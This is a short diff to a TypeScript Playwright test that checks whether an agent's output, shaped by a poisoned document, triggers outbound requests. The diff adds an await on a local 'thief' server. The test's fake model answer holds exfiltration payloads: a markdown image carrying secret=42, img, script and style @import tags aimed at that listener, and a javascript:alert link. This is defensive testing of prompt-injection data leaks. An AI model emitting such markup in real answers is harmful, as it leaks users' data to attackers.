@@ -1,3 +1,4 @@
+import { once } from 'node:events'
 import { createServer } from 'node:http'
 import type { AddressInfo } from 'node:net'
 import type { Page } from 'playwright-core'
@@ -150,6 +151,7 @@ test('what a poisoned document makes the agent say is not fetched, and leads now
     asked.push(request.url ?? '')
     response.end()
   }).listen(0, '127.0.0.1')
+  await once(thief, 'listening')
   const address = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`
   provider.answer = () => ({
     text: `Done. ![logo](${address}/1?secret=42) <img src="${address}/2"> [![x](${address}/3)](javascript:alert(1))\n\n<script src="${address}/4"></script>\n\n<style>@import url(${address}/5)</style>`,
